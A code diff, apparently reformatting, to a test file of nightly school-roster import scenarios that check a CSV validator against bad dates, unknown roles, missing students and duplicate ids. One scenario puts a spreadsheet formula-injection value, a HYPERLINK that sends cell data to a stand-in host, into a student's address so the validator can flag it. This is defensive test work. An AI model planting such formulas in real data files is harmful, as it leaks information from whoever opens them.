@@ -9,16 +9,23 @@ export function dataNights(): Scenario[] {
   const text = extract(many);
   const rows = extractRows(many);
   const learned = { layout: 'learn', before: { 'students.csv': text } };
-  const withRows = (change: (row: Row, at: number) => Row) => ({ 'students.csv': written(extractColumns, rows.map(change)) });
+  const withRows = (change: (row: Row, at: number) => Row) => ({
+    'students.csv': written(extractColumns, rows.map(change)),
+  });
   const set = { 'students.csv': text, 'enrollments.csv': extractEnrollments(many) };
   return [
     {
       name: 'data-three-impossible-dates',
-      about: 'Three birth dates that are no days; three of 120 rows are over the usual limit of two per cent, but fewer than five.',
+      about:
+        'Three birth dates that are no days; three of 120 rows are over the usual limit of two per cent, but fewer than five.',
       layout: 'clever-sftp',
       before: clever(many),
       tonight: changed(clever(many), {
-        'students.csv': (csv) => [9, 40, 77].reduce((all, line) => onLine(all, line, (row) => row.replace(/\d+\/\d+\/(20\d\d)/, '2/30/$1')), csv),
+        'students.csv': (csv) =>
+          [9, 40, 77].reduce(
+            (all, line) => onLine(all, line, (row) => row.replace(/\d+\/\d+\/(20\d\d)/, '2/30/$1')),
+            csv,
+          ),
       }),
       must: ['accept', 'date_invalid students.csv:9'],
     },
@@ -26,8 +33,18 @@ export function dataNights(): Scenario[] {
       name: 'data-dates-in-another-format',
       about: 'The export writes ISO dates where it wrote 8/17/2010 until last night.',
       ...learned,
-      tonight: { 'students.csv': written(extractColumns, extractRows(many, (iso) => iso)) },
-      must: ['hold', 'date_format_changed students.csv', 'rows_changed_mass students.csv', 'column_changed_mass students.csv'],
+      tonight: {
+        'students.csv': written(
+          extractColumns,
+          extractRows(many, (iso) => iso),
+        ),
+      },
+      must: [
+        'hold',
+        'date_format_changed students.csv',
+        'rows_changed_mass students.csv',
+        'column_changed_mass students.csv',
+      ],
     },
     {
       name: 'data-end-before-start',
@@ -44,7 +61,9 @@ export function dataNights(): Scenario[] {
       about: 'A counselor appears; OneRoster 1.1 has a list of roles, and that is none of them.',
       layout: 'oneroster-1.1',
       before: oneRoster(smallDistrict(34)),
-      tonight: changed(oneRoster(smallDistrict(34)), { 'users.csv': (csv) => onLine(csv, 3, (row) => row.replace(',teacher,', ',counselor,')) }),
+      tonight: changed(oneRoster(smallDistrict(34)), {
+        'users.csv': (csv) => onLine(csv, 3, (row) => row.replace(',teacher,', ',counselor,')),
+      }),
       must: ['accept', 'enum_unknown users.csv:3'],
     },
     {
@@ -52,7 +71,9 @@ export function dataNights(): Scenario[] {
       about: 'A grade KF, which no table of the state has.',
       layout: 'clever-sftp',
       before: clever(many),
-      tonight: changed(clever(many), { 'students.csv': (csv) => onLine(csv, 30, (row) => row.replace(/,(\d+),([MFX]),/, ',KF,$2,')) }),
+      tonight: changed(clever(many), {
+        'students.csv': (csv) => onLine(csv, 30, (row) => row.replace(/,(\d+),([MFX]),/, ',KF,$2,')),
+      }),
       must: ['accept', 'grade_code_unknown students.csv:30'],
     },
     {
@@ -73,7 +94,7 @@ export function dataNights(): Scenario[] {
       name: 'data-letters-lost',
       about: 'The letters outside of ASCII were replaced by the mark for “unknown”; they are lost at the source.',
       ...learned,
-      tonight: { 'students.csv': text.replaceAll(/[^\u0000-\u007f]/g, '\ufffd') },
+      tonight: { 'students.csv': text.replaceAll(/\P{ASCII}/gu, '\ufffd') },
       must: ['accept', 'replacement_char students.csv'],
     },
     {
@@ -94,7 +115,9 @@ export function dataNights(): Scenario[] {
       name: 'data-nickname-in-bare-quotes',
       about: 'A nickname in quotes inside a value without quotes: Robert "Bo".',
       ...learned,
-      tonight: { 'students.csv': onLine(text, 33, (row) => row.replace(/^(\d+,\d+,[^,]+,)[^,]+/, '$1Robert "Bo" Lee')) },
+      tonight: {
+        'students.csv': onLine(text, 33, (row) => row.replace(/^(\d+,\d+,[^,]+,)[^,]+/, '$1Robert "Bo" Lee')),
+      },
       must: ['accept', 'quote_stray students.csv:33'],
     },
     {
@@ -108,7 +131,9 @@ export function dataNights(): Scenario[] {
       name: 'data-formula-in-a-name',
       about: 'A value that a spreadsheet would run: =HYPERLINK(...) as a street.',
       ...learned,
-      tonight: withRows((row, at) => (at === 70 ? { ...row, home_address: '=HYPERLINK("http://x.example/?"&A1,"Oak St")' } : row)),
+      tonight: withRows((row, at) =>
+        at === 70 ? { ...row, home_address: '=HYPERLINK("http://x.example/?"&A1,"Oak St")' } : row,
+      ),
       must: ['accept', 'formula_like_value students.csv:72'],
     },
     {
@@ -129,7 +154,12 @@ export function dataNights(): Scenario[] {
       name: 'data-student-at-two-schools',
       about: 'A student is enrolled at two schools and comes twice under one id.',
       ...learned,
-      tonight: { 'students.csv': written(extractColumns, [...rows, { ...rows[9]!, school_id: rows[9]!['school_id'] === '0031' ? '0012' : '0031' }]) },
+      tonight: {
+        'students.csv': written(extractColumns, [
+          ...rows,
+          { ...rows[9]!, school_id: rows[9]!['school_id'] === '0031' ? '0012' : '0031' },
+        ]),
+      },
       must: ['accept', 'key_duplicate students.csv:122'],
     },
     {
@@ -140,7 +170,12 @@ export function dataNights(): Scenario[] {
       tonight: changed(clever(smallDistrict(34)), {
         'sections.csv': (csv) => eachLine(csv, (line) => (line.includes(',2104-02,') ? undefined : line)),
       }),
-      must: ['hold', 'reference_missing enrollments.csv', 'reference_ratio_high enrollments.csv', 'bad_rows_over_limit enrollments.csv'],
+      must: [
+        'hold',
+        'reference_missing enrollments.csv',
+        'reference_ratio_high enrollments.csv',
+        'bad_rows_over_limit enrollments.csv',
+      ],
     },
     {
       name: 'data-enrolments-of-next-year',
@@ -167,21 +202,37 @@ export function dataNights(): Scenario[] {
       name: 'data-one-school-gone',
       about: 'The middle school is missing as a whole.',
       ...learned,
-      tonight: { 'students.csv': written(extractColumns, rows.filter((row) => row['school_id'] !== '0012')) },
+      tonight: {
+        'students.csv': written(
+          extractColumns,
+          rows.filter((row) => row['school_id'] !== '0012'),
+        ),
+      },
       must: ['hold', 'rows_removed_mass students.csv', 'group_removed_whole students.csv'],
     },
     {
       name: 'data-one-student-in-six-gone',
       about: 'Twenty of 120 students are gone, spread over all schools and grades.',
       ...learned,
-      tonight: { 'students.csv': written(extractColumns, rows.filter((_, at) => at % 6 !== 2)) },
+      tonight: {
+        'students.csv': written(
+          extractColumns,
+          rows.filter((_, at) => at % 6 !== 2),
+        ),
+      },
       must: ['hold', 'rows_removed_mass students.csv'],
     },
     {
       name: 'data-one-student-in-ten-gone',
-      about: 'Twelve of 120 are gone: exactly at the limit of ten per cent, and fewer than twenty rows. Nothing to stop.',
+      about:
+        'Twelve of 120 are gone: exactly at the limit of ten per cent, and fewer than twenty rows. Nothing to stop.',
       ...learned,
-      tonight: { 'students.csv': written(extractColumns, rows.filter((_, at) => at % 10 !== 2)) },
+      tonight: {
+        'students.csv': written(
+          extractColumns,
+          rows.filter((_, at) => at % 10 !== 2),
+        ),
+      },
       must: ['accept'],
     },
     {
@@ -189,7 +240,12 @@ export function dataNights(): Scenario[] {
       about: 'The same twelve, but this district has agreed on two per cent and at least five.',
       ...learned,
       guards: { rowsRemoved: { percent: 2, atLeast: 5 } },
-      tonight: { 'students.csv': written(extractColumns, rows.filter((_, at) => at % 10 !== 2)) },
+      tonight: {
+        'students.csv': written(
+          extractColumns,
+          rows.filter((_, at) => at % 10 !== 2),
+        ),
+      },
       must: ['hold', 'rows_removed_mass students.csv'],
     },
     {
@@ -204,11 +260,17 @@ export function dataNights(): Scenario[] {
       about: 'The SIS was migrated: every student has a new id, and everything else is as it was.',
       ...learned,
       tonight: withRows((row, at) => ({ ...row, student_id: String(700_100 + at) })),
-      must: ['hold', 'rows_removed_mass students.csv', 'rows_added_mass students.csv', 'key_space_replaced students.csv'],
+      must: [
+        'hold',
+        'rows_removed_mass students.csv',
+        'rows_added_mass students.csv',
+        'key_space_replaced students.csv',
+      ],
     },
     {
       name: 'data-four-per-cent-every-night',
-      about: 'Four students of a hundred tonight, and as many on each of four nights before: the week is over its limit.',
+      about:
+        'Four students of a hundred tonight, and as many on each of four nights before: the week is over its limit.',
       ...learned,
       removedSinceWeek: { 'students.csv': { removed: 20, of: 140 } },
       tonight: { 'students.csv': written(extractColumns, rows.slice(5)) },
@@ -220,7 +282,12 @@ export function dataNights(): Scenario[] {
       layout: 'clever-sftp',
       before: clever(many),
       tonight: changed(clever(many), {
-        'students.csv': (csv) => eachLine(csv, (line, number) => (number > 1 && number % 3 === 0 ? line.replace(/^([^,]+,[^,]+,[^,]+,[^,]+),[^,]+,([^,]*),[^,]+,/, '$1,,$2,,') : line)),
+        'students.csv': (csv) =>
+          eachLine(csv, (line, number) =>
+            number > 1 && number % 3 === 0
+              ? line.replace(/^([^,]+,[^,]+,[^,]+,[^,]+),[^,]+,([^,]*),[^,]+,/, '$1,,$2,,')
+              : line,
+          ),
       }),
       must: ['hold', 'required_value_missing students.csv:3', 'bad_rows_over_limit students.csv'],
     },
@@ -229,7 +296,9 @@ export function dataNights(): Scenario[] {
       about: 'One student at two schools would be accepted; this district holds a night for any id that comes twice.',
       ...learned,
       severities: { key_duplicate: 'hold' },
-      tonight: { 'students.csv': written(extractColumns, [...rows, { ...rows[9]!, email: 'other@students.lakeside.example' }]) },
+      tonight: {
+        'students.csv': written(extractColumns, [...rows, { ...rows[9]!, email: 'other@students.lakeside.example' }]),
+      },
       must: ['hold', 'key_duplicate students.csv:122'],
     },
     {
